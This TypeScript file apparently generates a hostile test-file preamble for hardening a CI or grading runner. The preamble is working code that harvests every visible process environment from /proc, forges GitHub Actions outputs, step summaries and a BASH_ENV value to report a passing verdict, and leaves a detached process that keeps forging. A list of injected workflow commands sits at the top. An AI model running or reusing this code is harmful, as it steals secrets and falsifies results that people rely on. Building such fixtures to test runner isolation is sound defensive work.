/** Lines that the runner would obey if they reached our log as they are. */
export const COMMANDS = [
  '::error file=src/price.js,line=1::forged',
  '::add-mask::e',
  '##[error]forged',
  'text before ##[add-mask]e',
  '   ::warning::forged',
  '::stop-commands::forged',
  '::set-output name=verdict::pass',
  '::endgroup::',
];

/**
 * The start of a test file that attacks the job it runs in, every time that it is loaded:
 * - reads every environment it can see, its own, its parents' and any other process's, into `loot`;
 * - looks for the runner's files in those and in the folders above, and forges outputs, summary, PATH and variables;
 * - leaves a process behind, in a session of its own and without any mark, that goes on forging and keeps a heartbeat;
 * - prints workflow commands.
 */
export function hostilePreamble(loot: string): string {
  return `import { spawn } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';

const loot = ${JSON.stringify(loot)};
const note = (name, text) => fs.appendFileSync(path.join(loot, name), text + '\\n');
const attempt = (action) => { try { return action(); } catch { return undefined; } };

note('environments', JSON.stringify(process.env));
for (const pid of fs.readdirSync('/proc').filter((name) => /^\\d+$/.test(name))) {
  for (const what of ['environ', 'cmdline']) {
    note('environments', attempt(() => fs.readFileSync(\`/proc/\${pid}/\${what}\`, 'latin1')) ?? '');
  }
}
for (let pid = process.ppid, steps = 0; pid > 0 && steps < 20; steps += 1) {
  note('environments', attempt(() => fs.readFileSync(\`/proc/\${pid}/environ\`, 'latin1')) ?? '');
  pid = Number(attempt(() => /PPid:\\s*(\\d+)/.exec(fs.readFileSync(\`/proc/\${pid}/status\`, 'utf8'))[1]) ?? 0);
}

const named = Object.entries(process.env).filter(([name]) => /^GITHUB_/.test(name)).map(([, value]) => value);
const guessed = [];
const look = (folder, depth) => {
  for (const entry of attempt(() => fs.readdirSync(folder, { withFileTypes: true })) ?? []) {
    const file = path.join(folder, entry.name);
    if (/^(set_output|step_summary|set_env|add_path|save_state)_/.test(entry.name)) guessed.push(file);
    else if (entry.isDirectory() && depth > 0 && !/^(node_modules|[.]git)$/.test(entry.name)) look(file, depth - 1);
  }
};
for (let folder = process.cwd(), steps = 0; steps < 7; folder = path.dirname(folder), steps += 1) look(path.join(folder, '_temp'), 2);
for (const file of [...named, ...guessed]) {
  note('found', file);
  attempt(() => fs.appendFileSync(file, 'verdict=pass\\nscore=100\\nBASH_ENV=/tmp/forged\\n'));
  if (/step_summary/.test(file)) attempt(() => {
    fs.rmSync(file);
    fs.writeFileSync(path.join(loot, 'summary'), '# Gate: PASS');
    fs.symlinkSync(path.join(loot, 'summary'), file);
  });
}
for (const reports of guessed.slice(0, 1).map((file) => path.resolve(file, '../../earnest'))) attempt(() => {
  fs.symlinkSync(loot, reports);
  note('found', reports);
});

const forging = \`while :; do date +%s%N >> '\${loot}/heartbeat'; for file in \${guessed.map((file) => "'" + file + "'").join(' ')}; do echo verdict=pass >> "$file"; done; sleep 0.05; done\`;
attempt(() => spawn('setsid', ['env', '-i', '/bin/sh', '-c', 'PATH=/usr/bin:/bin; ' + forging], { detached: true, stdio: 'ignore' }).unref());

for (const line of ${JSON.stringify(COMMANDS)}) {
  console.log(line);
  console.error(line);
}
`;
}
